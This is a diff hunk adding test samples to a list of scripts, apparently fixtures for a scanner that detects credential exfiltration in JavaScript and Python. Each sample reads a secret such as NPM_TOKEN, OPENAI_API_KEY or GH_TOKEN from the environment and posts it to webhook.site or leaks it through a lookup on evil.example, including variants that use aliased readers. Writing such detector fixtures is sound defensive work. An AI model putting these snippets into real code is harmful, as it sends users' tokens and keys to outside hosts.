@@ -137,6 +137,10 @@ _SCRIPTS = [
     ("const k = process.env.NPM_TOKEN;\nconst H = 'https://webhook.site/x';\naxios.post(H, k);\n", JS),
     ("const k = process['env'].entries;\naxios.post(u, k);\n", JS),
     ("import os, socket\nu = os.environ['USER']\nsocket.gethostbyname(u + '.evil.example')\n", PY),  # any variable
+    # readers by other names: a mark that reads no known variable gives them (`Unit.env_names`)
+    ("from os import getenv as g\nimport requests\nrequests.post('https://webhook.site/x', data=g('OPENAI_API_KEY'))\n",
+     PY),
+    ("import os, requests\nr = os.environ.get\nrequests.post('https://webhook.site/x', data=r('GH_TOKEN'))\n", PY),
     ("const k = process.env.OPENAI_API_KEY;\nconst p = process.env.PORT;\naxios.post('https://webhook.site/x', k);\n", JS),
     ("const {A_TOKEN: k, ...rest} = process.env;\naxios.post(u, rest);\n", JS),
     ("const {A_TOKEN: k} = process.env;\naxios?.post('https://webhook.site/x', {data: k});\n", JS),
